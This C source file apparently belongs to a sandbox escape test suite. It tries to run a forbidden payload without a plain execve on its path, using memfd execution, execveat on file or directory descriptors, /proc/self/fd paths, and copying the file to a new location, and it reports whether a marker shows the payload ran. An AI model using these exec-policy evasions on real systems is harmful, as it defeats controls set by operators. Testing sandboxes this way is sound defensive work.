/* child_exec: run a program the policy does not permit, by a way other than execve(path).
 *
 *   child_exec MODE PAYLOAD WORK
 *
 * The policy permits exec of the system's programs (and of this one) and refuses the rest;
 * PAYLOAD is readable (fsread is permitted) but may not run.  It leaves a marker when it runs.
 *
 * MODE: memfd    copy PAYLOAD into a memfd, execveat(memfd, "", AT_EMPTY_PATH) (fexecve)
 *       fd       open(PAYLOAD, O_RDONLY), execveat(fd, "", AT_EMPTY_PATH)
 *       opath    open(PAYLOAD, O_PATH), execveat(fd, "", AT_EMPTY_PATH)
 *       procfd   open(PAYLOAD, O_PATH), execve("/proc/self/fd/N")
 *       dirfd    execveat(dirfd of PAYLOAD's directory, "name", 0)
 *       copy     copy PAYLOAD to WORK/copy, chmod 755, execve it
 * Class 4 (children that slip away: exec of a memfd or of an fd).
 */
#include "attack.h"

#include <libgen.h>
#include <sys/mman.h>
#include <sys/sendfile.h>

static int copy_into(int dst, const char *src) {
    int in = open(src, O_RDONLY);
    struct stat st;
    if (in < 0 || fstat(in, &st) < 0)
        return -1;
    off_t off = 0;
    while (off < st.st_size)
        if (sendfile(dst, in, &off, st.st_size - off) <= 0)
            return -1;
    close(in);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 4)
        usage("child_exec MODE PAYLOAD WORK");
    const char *mode = argv[1], *payload = argv[2], *work = argv[3];
    const char *marker = getenv("ESC_MARKER");
    char *args[] = {"payload", NULL};
    int fd = -1, dirfd = -1;
    char path[4096] = "", name[256] = "";
    if (!strcmp(mode, "memfd")) {
        fd = memfd_create("payload", MFD_CLOEXEC);
        if (fd < 0 || copy_into(fd, payload) < 0)
            blocked("memfd copy: %s", ename(errno));
    } else if (!strcmp(mode, "fd")) {
        fd = open(payload, O_RDONLY | O_CLOEXEC);
    } else if (!strcmp(mode, "opath") || !strcmp(mode, "procfd")) {
        fd = open(payload, O_PATH);
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    } else if (!strcmp(mode, "dirfd")) {
        char tmp[4096];
        snprintf(tmp, sizeof tmp, "%s", payload);
        snprintf(name, sizeof name, "%s", basename(tmp));
        snprintf(tmp, sizeof tmp, "%s", payload);
        dirfd = open(dirname(tmp), O_RDONLY | O_DIRECTORY);
    } else if (!strcmp(mode, "copy")) {
        snprintf(path, sizeof path, "%s/copy", work);
        int out = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (out < 0 || copy_into(out, payload) < 0)
            blocked("copy: %s", ename(errno));
        close(out);
    } else {
        usage("MODE: memfd fd opath procfd dirfd copy");
    }
    if (fd < 0 && dirfd < 0 && strcmp(mode, "copy"))
        blocked("open: %s", ename(errno));
    pid_t pid = fork();
    if (pid == 0) {
        if (!strcmp(mode, "procfd") || !strcmp(mode, "copy"))
            execve(path, args, environ);
        else if (dirfd >= 0)
            execveat(dirfd, name, args, environ, 0);
        else
            execveat(fd, "", args, environ, AT_EMPTY_PATH);
        printf("note: exec: %s\n", ename(errno));
        fflush(stdout);
        _exit(127);
    }
    int status;
    waitpid(pid, &status, 0);
    if (marker && exists(marker))
        escaped("the payload ran (%s)", mode);
    blocked("the payload did not run (%s, child status %#x)", mode, status);
}
